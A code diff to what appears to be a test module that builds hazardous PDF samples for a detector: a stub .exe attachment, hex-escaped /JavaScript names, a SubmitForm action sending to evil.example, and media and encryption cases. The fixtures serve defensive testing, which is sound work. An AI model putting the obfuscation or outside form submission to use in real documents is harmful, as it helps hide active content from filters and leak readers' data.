@@ -106,6 +106,10 @@ def _spelled(content: bytes) -> bytes:
     return content.replace(b"/JavaScript", b"/J#61v#61Script").replace(b"/JS", b"/#4a#53")
 
 
+def _attached(writer: PdfWriter) -> None:
+    writer.add_attachment("x.exe", b"MZ")
+
+
 def _encrypted(writer: PdfWriter) -> None:
     writer.encrypt("", "owner", algorithm="RC4-128")
 
@@ -125,7 +129,7 @@ def dangerous() -> dict[str, tuple[bytes, str]]:
         "sends a form": (paper(change=_link(action("/SubmitForm", F="https://evil.example"))), "action"),
         "does what nobody knows": (paper(change=_link(action("/Unheard"))), "action"),
         "does something with each page": (paper(change=_on_a_page("/AA", named(O=action("/Named")))), "action"),
-        "holds a file": (paper(change=lambda w: w.add_attachment("x.exe", b"MZ")), "embedded-file"),
+        "holds a file": (paper(change=_attached), "embedded-file"),
         "pins a file to a page": (paper(change=_annotation("/FileAttachment")), "embedded-file"),
         "plays a film": (paper(change=_annotation("/RichMedia")), "media"),
         "is a form with a program": (
